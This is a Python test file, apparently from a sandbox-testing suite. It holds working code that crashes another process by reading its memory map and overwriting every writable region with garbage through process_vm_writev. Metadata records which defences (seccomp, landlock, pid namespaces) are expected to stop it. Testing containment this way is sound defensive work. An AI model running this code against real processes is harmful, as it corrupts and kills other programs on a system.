"""Crashes another process by writing over its memory with process_vm_writev."""

ATTACK = {
    "family": "processes",
    "stopped_by": ["pid", "seccomp", "landlock"],
    "lift": ["user", "landlock", "seccomp", "privileges"],
    "expect": ["exception"],
    "proof": "struck",
}

import ctypes
import re


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack(host):
    libc = ctypes.CDLL(None, use_errno=True)
    garbage = ctypes.create_string_buffer(b"\xff" * 4096, 4096)
    done = 0
    with open(f"/proc/{host['victim']}/maps") as maps:
        places = [line.split() for line in maps]
    for place in places:
        if "w" in place[1]:
            first, last = (int(part, 16) for part in place[0].split("-"))
            for at in range(first, min(last, first + (1 << 22)), 4096):
                here, there = Piece(ctypes.addressof(garbage), 4096), Piece(at, 4096)
                done += libc.process_vm_writev(host["victim"], ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0
    libc.kill(host["victim"], 10)
    if not done:
        raise OSError(ctypes.get_errno(), "process_vm_writev")
